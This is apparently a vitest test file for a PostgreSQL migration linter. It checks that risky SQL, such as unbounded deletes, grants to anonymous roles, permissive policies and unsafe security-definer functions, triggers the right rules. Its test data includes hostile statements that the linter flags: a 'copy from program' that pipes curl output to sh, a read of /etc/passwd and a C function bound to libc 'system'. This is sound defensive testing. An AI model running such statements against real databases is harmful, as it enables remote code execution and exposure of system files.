import { expect, test } from "vitest";
import type { Migration } from "../../../operations/migrate/folder.ts";
import { lint } from "../../../operations/migrate/lint.ts";

const { signal } = new AbortController();

const definer = "create function f() returns int language sql security definer";

/** Rules that find a statement, in the order of their names where there are several. */
const cases: readonly [sql: string, ...rules: (string | undefined)[]][] = [
  ["update account set extra = 0 where true", "no-change-of-every-row"],
  ["delete from account where 1 = 1", "no-change-of-every-row"],
  ["with gone as (delete from account returning 1) select 1", "no-change-of-every-row"],
  [
    "create table archive as with gone as (delete from account returning id) select id from gone",
    "no-change-of-every-row",
  ],
  [
    "create table kept (id int); with gone as (delete from account returning id) insert into kept select id from gone",
    "no-change-of-every-row",
  ],
  ["create table locked as select id from account for update", "no-change-of-every-row"],
  ["merge into account a using entry e on true when matched then delete", "no-change-of-every-row"],
  ["select * from account for update", "no-change-of-every-row"],
  ["\uFEFFtruncate account;\r\n", "no-loss-of-rows"],
  ["drop owned by app", "no-drop-owned"],
  ["alter table account disable trigger all", "integrity-kept"],
  ["alter table account disable trigger touch", "integrity-kept"],
  ["set session_replication_role = replica", "integrity-kept"],
  ["set lock_timeout = 0", "limits-kept"],
  ["set lock_timeout = '0'", "limits-kept"],
  ["set local lock_timeout to default", "limits-kept"],
  ["reset lock_timeout", "limits-kept"],
  ["reset all", "limits-kept"],
  ["discard all", "limits-kept"],
  ["set lock_timeout = '5min'", "limits-kept"],
  ["alter table part attach partition part_2 for values from (100) to (200)", "attach-reads-the-table"],
  ["select setval('s', 1)", "code-that-nobody-parsed"],
  [
    "create function g() returns void language sql as 'delete from account'; select g()",
    "code-that-nobody-parsed",
  ],
  ["grant select on account to anon", "no-rights-to-anonymous"],
  ["grant usage on schema public to authenticated, anon", "no-rights-to-anonymous"],
  ["grant service_role to anon", "no-rights-to-anonymous", "no-role-above-policies"],
  ["alter default privileges in schema public grant select on tables to anon", "no-rights-to-anonymous"],
  ["alter default privileges grant execute on functions to public", "no-rights-to-everyone"],
  ["create table fresh (id bigint); grant all on fresh to anon", "no-rights-to-anonymous"],
  ["create policy p on account using (true)", "policy-asks-something"],
  ["create policy p on account for select to anon, authenticated using (1 = 1)", "policy-asks-something"],
  ["create policy p on account for insert with check (true or false)", "policy-asks-something"],
  ["alter policy p on account using (true)", "policy-asks-something"],
  ["create table fresh (id bigint); create policy p on fresh using (true)", "policy-asks-something"],
  [
    "alter type mood add value 'calm'; update account set m = 'calm' where id = 1",
    "new-value-in-its-own-migration",
    "new-value-is-read",
  ],
  [
    "alter type mood add value 'calm'; alter table t alter m set default 'calm'",
    "new-value-in-its-own-migration",
    "new-value-is-read",
  ],
  [
    "alter type mood add value 'calm'; alter table account add constraint c check (m <> 'calm') not valid",
    "new-value-in-its-own-migration",
    "new-value-is-read",
  ],
  [
    "create table if not exists account (id bigint); create index i on account (id)",
    "require-concurrent-index-creation",
  ],
  [
    "create table if not exists account (id bigint); alter table account add foreign key (id) references entry (id)",
    "adding-foreign-key-constraint",
    "constraint-missing-not-valid",
  ],
  ["drop table account; create table account (id bigint)", "ban-drop-table"],
  ["truncate account; create table if not exists account (id bigint)", "no-loss-of-rows"],
  ["savepoint s; create table n (id int); rollback to s", "no-savepoint"],
  // What a new column brings with it.
  ["create domain pos as int check (value > 0); alter table account add n pos", "no-rewriting-column"],
  [
    "create domain base as int not null; create domain more as base; alter table account add n public.more",
    "no-rewriting-column",
  ],
  [
    "create domain at as timestamptz default clock_timestamp(); alter table account add n at",
    "no-rewriting-column",
  ],
  [
    "create domain free as text; alter domain free set not null; alter table account add n free",
    "domain-reads-its-tables",
    "no-rewriting-column",
  ],
  ["create domain free as text default 'a'; alter table account add n free", undefined],
  ["create domain pos as int check (value > 0); alter table account add n pos[]", undefined],
  ["alter table account add n unheard_of", "type-of-column-is-known"],
  [
    "create type mood as enum ('a'); alter table account add n mood, add m citext, add o numeric(4, 2)",
    undefined,
  ],
  [
    "alter table account add n int generated always as (id * 2) stored",
    "adding-field-with-default",
    "no-rewriting-column",
  ],
  ["alter table account add n int generated always as (id * 2) virtual", undefined],
  ["alter table account add n int check (n > 0)", "no-check-at-a-new-column"],
  ["alter domain pos add check (value < 9) not valid", undefined],
  ["alter domain pos validate constraint c", "domain-reads-its-tables"],
  // Constraints, each with a way that there is.
  [
    "alter table account add constraint k exclude using gist (r with &&)",
    "no-exclusion-of-rows-that-are-there",
  ],
  ["alter table account add constraint k unique (id)", undefined],
  ["alter table account add constraint k check (id > 0)", "constraint-missing-not-valid"],
  ["alter table account add primary key (id), add check (id > 0)", "constraint-missing-not-valid"],
  ["create table part_2 partition of part for values from (1) to (2)", "partition-locks-its-table"],
  ["create table part (id int) partition by range (id); create table p partition of part default", undefined],
  // Files, programs and other servers.
  ["copy account from program 'curl example.com | sh'", "no-files-or-programs"],
  ["copy (select 1) to '/tmp/x'", "no-files-or-programs"],
  ["load 'auto_explain'", "no-files-or-programs"],
  ["create extension plpython3u", "no-files-or-programs"],
  ["create function f() returns int language plperlu as ''", "no-files-or-programs"],
  ["create function f() returns int language c as 'libc.so.6', 'system'", "no-files-or-programs"],
  ["select pg_read_file('/etc/passwd')", "code-that-nobody-parsed", "no-files-or-programs"],
  ["create extension pgcrypto", undefined],
  ["copy account from stdin", "no-copy-from-a-client"],
  // The server, sessions and settings.
  ["alter system set fsync = off", "server-kept"],
  ["alter role app set lock_timeout = 0", "server-kept"],
  ["alter database app set search_path = other", "server-kept"],
  ["insert into note select pg_terminate_backend(1)", "server-kept"],
  ["select pg_advisory_unlock_all()", "code-that-nobody-parsed", "server-kept"],
  ["set role postgres", "role-kept"],
  ["reset session authorization", "role-kept"],
  ["select set_config('role', 'postgres', false)", "code-that-nobody-parsed", "role-kept"],
  ["set search_path = other, public", "search-path-kept"],
  ["set search_path = public, extensions", undefined],
  ["select set_config('search_path', '', false)", "code-that-nobody-parsed"],
  ["select set_config('lock_timeout', '0', false)", "code-that-nobody-parsed", "limits-kept"],
  [
    "select set_config('session_replication_role', 'replica', true)",
    "code-that-nobody-parsed",
    "integrity-kept",
  ],
  [
    "create table note (id int); set search_path = other; truncate note",
    "no-loss-of-rows",
    "search-path-kept",
  ],
  ["update pg_index set indisvalid = true where indexrelid = 1", "catalogs-kept"],
  ["delete from _prisma_migrations where id = 'a'", "catalogs-kept"],
  [
    "with w as (update pg_catalog.pg_class set relname = 'x' where oid = 1 returning 1) select from w",
    "catalogs-kept",
  ],
  ["alter table account enable replica trigger touch", "integrity-kept"],
  ["alter event trigger guard disable", "integrity-kept"],
  ["create rule r as on insert to account do instead nothing", "no-rewrite-of-statements"],
  // Roles and rights.
  ["create role app login password 'canary-9d21'", "no-secret-in-its-text"],
  ["alter user app encrypted password 'SCRAM-SHA-256$4096:a$b:c'", "no-secret-in-its-text"],
  ["alter role app password null", undefined],
  [
    "create user mapping for app server s options (user 'u', password 'canary-9d21')",
    "no-secret-in-its-text",
  ],
  ["insert into link values ('postgres://app:canary-9d21@db/app')", "no-secret-in-its-text"],
  ["comment on role app is 'postgres://user:password@host'", undefined],
  ["update account set password = crypt(password, gen_salt('bf')) where id = 1", undefined],
  ["alter role app createrole", "no-role-above-policies"],
  ["create role app replication", "no-role-above-policies"],
  ["create role app nosuperuser nobypassrls", undefined],
  ["grant pg_execute_server_program to app", "no-role-above-policies"],
  ["create role app in role postgres", "no-role-above-policies"],
  ["grant pg_monitor to app", undefined],
  ["reassign owned by app to other", "owner-kept"],
  ["alter table account owner to other", "owner-kept"],
  ["create table fresh (id int); alter table fresh owner to other", undefined],
  ["alter view v set (security_invoker = false)", "row-security-kept"],
  ["alter view v reset (security_invoker)", "row-security-kept"],
  ["create view v as select * from account", "view-asks-as-its-reader"],
  ["create view v with (security_invoker) as select * from account", undefined],
  [`${definer} as 'select 1'`, "definer-has-search-path", "definer-is-not-for-everybody"],
  [`${definer} set search_path = '' as 'select 1'`, "definer-is-not-for-everybody"],
  [
    `${definer} set search_path = "$user", public as 'select 1'; revoke execute on function f from public`,
    "definer-has-search-path",
  ],
  [
    `${definer} set search_path from current as 'select 1'; revoke all on all functions in schema public from public`,
    "definer-has-search-path",
  ],
  [
    `${definer} as 'select 1'; alter function f() set search_path = ''; revoke all on function f() from public, anon`,
    undefined,
  ],
  [
    `${definer} set search_path = '' as 'select 1'; revoke execute on function g() from public`,
    "definer-is-not-for-everybody",
  ],
  [
    `alter default privileges revoke execute on functions from public; ${definer} set search_path = '' as 'select 1'`,
    undefined,
  ],
  [
    `alter default privileges in schema public revoke execute on functions from public; ${definer} set search_path = '' as 'select 1'`,
    "definer-is-not-for-everybody",
  ],
  [
    "create function t() returns trigger language plpgsql security definer set search_path = '' as 'begin return new; end'",
    undefined,
  ],
  [
    "alter function g() security definer set search_path = ''; revoke execute on function g() from public",
    undefined,
  ],
  ["alter function g() reset search_path", "definer-has-search-path"],
  ["alter function g() security invoker", undefined],
  // What a block of code may run.
  ["do $$ begin lock table account; end $$", "code-that-nobody-parsed", "no-explicit-lock"],
  [
    "do $$ begin if not exists (select from entry) then alter table account add constraint c check (id > 0); end if; end $$",
    "code-that-nobody-parsed",
    "constraint-missing-not-valid",
  ],
  ["do $$ begin execute 'truncate account'; end $$", "code-that-nobody-parsed", "no-loss-of-rows"],
  [
    "do $$ declare t text; begin for t in select 'a' loop execute format('alter table %I disable row level security', t); end loop; end $$",
    "code-that-nobody-parsed",
    "row-security-kept",
  ],
  [
    "do $$ begin execute 'grant all on ' || quote_ident('account') || ' to anon'; end $$",
    "code-that-nobody-parsed",
    "no-rights-to-anonymous",
  ],
  [
    "do $$ begin perform set_config('lock_timeout', '0', true); end $$",
    "code-that-nobody-parsed",
    "limits-kept",
  ],
  [
    "do $$ begin create index concurrently i on account (id); end $$",
    "alone-in-its-file",
    "code-that-nobody-parsed",
  ],
  [
    "do $$ begin create table if not exists note (id int); create index i on note (id); end $$",
    "code-that-nobody-parsed",
    "require-concurrent-index-creation",
  ],
  [
    "do $$ begin execute 'do $x$ begin truncate account; end $x$'; end $$",
    "code-that-nobody-parsed",
    "no-loss-of-rows",
  ],
  [
    "do $$ declare q text := 'truncate account'; begin execute q; end $$",
    "code-that-nobody-parsed",
    "no-loss-of-rows",
  ],
  ["do $$ begin raise notice 'truncate account'; end $$", "code-that-nobody-parsed"],
  ["create schema s create table t (id int) grant select on t to public", "no-rights-to-everyone"],
  ["vacuum (full) account", "no-rewrite-command"],
  ["vacuum (full false) account", undefined],
  ["cluster; select 1", "alone-in-its-file", "no-rewrite-command"],
  ["revoke all on account from anon", undefined],
  ["grant select on account to authenticated", undefined],
  ["create policy p on account to reporting using (true)", undefined],
  ["create policy p on account as restrictive using (true)", undefined],
  ["create policy p on account using (false)", undefined],
  ["create policy p on account using (auth.uid() = owner)", undefined],
  ["create policy p on account using (current_user = 'app')", undefined],
  ["alter type mood add value 'calm'", "new-value-is-read"],
  // PostgreSQL 15 does not write the table again for any of these, and for each of the next.
  ["alter table account add a int not null default -1, add b numeric default (- 1.5)", undefined],
  ["alter table account add c date default current_date, add d timestamp default localtimestamp", undefined],
  ["alter table account add e timestamp default (now() at time zone 'utc')", undefined],
  ["alter table account add f timestamptz default timezone('utc'::text, now())", undefined],
  [
    "alter table account add g int default -1, add h uuid default gen_random_uuid()",
    "adding-field-with-default",
  ],
  ["alter table account add i float default - random()", "adding-field-with-default"],
  ["alter table account add j int default own.now()", "adding-field-with-default"],
  [
    "create type fresh as enum ('a'); alter type fresh add value 'b'; alter table t alter m set default 'b'",
    undefined,
  ],
  ["begin; alter table account add column wrapped int; commit", undefined],
  ["begin; select 1; commit; select 1", "no-own-transaction"],
  ["begin; alter table account add column chained int; commit and chain", "no-own-transaction"],
  ["begin; select 1; rollback", "no-own-transaction"],
  ["create table fresh (id bigint); create index i on fresh (id)", undefined],
  ["create table next (id bigint); alter table next rename to later; truncate later", undefined],
  ["update account set extra = 0 where id = 1", undefined],
  ["delete from account a where exists (select from entry e where e.account = a.id)", undefined],
  [
    "merge into account a using entry e on a.id = e.account when matched then update set extra = 1",
    undefined,
  ],
  ["select * from account where id = 1 for update", undefined],
  ["set lock_timeout = '5s'", undefined],
  ["set local lock_timeout = 500", undefined],
  ["alter table account enable trigger all", undefined],
  ["comment on table account is 'drop owned by everyone; truncate account'", undefined],
  ["create table fresh (id bigint); truncate fresh; update fresh set id = 1", undefined],
];

test("each statement is found by the rule of its kind, and what is near to it by none", async () => {
  // Alone if it makes something, so that none is about a table of another's; the others together, as squawk is slow to start.
  const options = { version: "15.0", signal };
  const all = cases.map(([sql], index) => migration(sql, `${index}_change`));
  const isMaker = ({ sql }: Migration): boolean =>
    /create (?:table|domain|type)|default privileges/.test(sql);
  const together = await lint(
    all.filter((each) => !isMaker(each)),
    options,
  );
  const alone = await Promise.all(all.filter(isMaker).map((each) => lint([each], options)));
  const byName = new Map([...together, ...alone.flat()].map((each) => [each.migration.name, each]));
  const linted = all.map(({ name }) => [byName.get(name)]);
  const own = new Set(cases.flatMap(([, ...rules]) => rules.flatMap((rule) => rule ?? [])));
  const found = linted.map(([one]) =>
    [...new Set((one?.findings ?? []).map(({ rule }) => rule).filter((rule) => own.has(rule)))].toSorted(),
  );
  expect(cases.map(([sql], index) => [sql, found[index]])).toEqual(
    cases.map(([sql, ...rules]) => [sql, rules.flatMap((rule) => rule ?? [])]),
  );
});

function migration(sql: string, name = "1_change"): Migration {
  return { name, sql, checksum: "", down: undefined };
}

test("statements on one line keep what is said of each, and what comes after them their lines", async () => {
  const sql =
    "alter table account add b int not null; alter table account drop column a; /* a\nb */ create\n  index i on account (id); create table n (id int); create index j on n (id)";
  const [found] = await lint([migration(sql)], { version: "15.0", signal });
  expect(found?.findings.map(({ line, rule, kind, statement }) => [line, rule, kind, statement])).toEqual([
    [1, "adding-required-field", "danger", "alter table account add b int not null"],
    [1, "ban-drop-column", "contract", "alter table account drop column a"],
    [2, "require-concurrent-index-creation", "danger", "create index i on account (id)"],
  ]);
});

test("names the line of a block of code where it says what it runs", async () => {
  const sql = "select 1;\ndo $$\nbegin\n  perform 1;\n  execute 'truncate ' || 'account';\nend $$";
  const [found] = await lint([migration(sql)], { version: "15.0", signal });
  expect(found?.findings.find(({ rule }) => rule === "no-loss-of-rows")).toMatchObject({ line: 5 });
});

test("knows types of migrations that are applied", async () => {
  const folder = [migration("create domain pos as int check (value > 0); this is no SQL", "0_bad")];
  folder.push(migration("create domain neg as int check (value < 0)", "0_good"));
  const change = migration("alter table account add n neg");
  const [found] = await lint([change], { version: "15.0", signal, folder: [...folder, change] });
  expect(found?.findings.map(({ rule }) => rule)).toEqual(["no-rewriting-column"]);
});

test("shows no secret of a statement", async () => {
  const secret = "canary-9d21";
  const statements = [
    `create role app login password '${secret}'`,
    `alter role app /* ' */ password E'${secret}\\'x'`,
    `do $a$ begin execute 'alter role app password ''${secret}'''; end $a$`,
    `select dblink_connect('host=x password=${secret}')`,
    `insert into link values (U&'postgres://app:${secret}@db/app')`,
  ];
  const linted = await lint(
    statements.map((sql, index) => migration(sql, `${index}_secret`)),
    { version: "15.0", signal },
  );
  expect(linted.map(({ findings }) => findings.some(({ rule }) => rule === "no-secret-in-its-text"))).toEqual(
    statements.map(() => true),
  );
  expect(JSON.stringify(linted.map(({ findings, changes }) => [findings, changes]))).not.toContain(secret);
});

test("only what is proved to add something is an expansion", async () => {
  const labels: [sql: string, phase: string][] = [
    ["create table note (id int)", "expand"],
    ["alter table account add n int, alter m set default 1, set (fillfactor = 70)", "expand"],
    ["grant select on account to app", "expand"],
    ["alter table account validate constraint c", "expand"],
    [
      "create table note (id int); alter table note enable row level security; insert into note values (1)",
      "expand",
    ],
    ["drop owned by app", "contract"],
    ["drop role app", "contract"],
    ["alter role app nologin", "contract"],
    ["alter system set fsync = off", "contract"],
    ["revoke reader from app", "contract"],
    ["alter table account alter a drop not null", "contract"],
    ["drop index i", "unclear"],
    ["drop trigger t on account", "unclear"],
    ["alter table account drop constraint c", "unclear"],
    ["alter table account enable row level security", "unclear"],
    ["revoke select on account from app", "unclear"],
    ["reassign owned by app to other", "unclear"],
    ["alter view v set (security_invoker = false)", "unclear"],
    ["create publication p for all tables", "unclear"],
    ["delete from account where id = 1", "unclear"],
    ["alter extension postgis update", "unclear"],
    ["alter sequence s restart", "unclear"],
  ];
  const linted = await lint(
    labels.map(([sql], index) => migration(sql, `${index}_change`)),
    { version: "15.0", signal },
  );
  expect(labels.map(([sql], index) => [sql, linted[index]?.phase])).toEqual(labels);
});
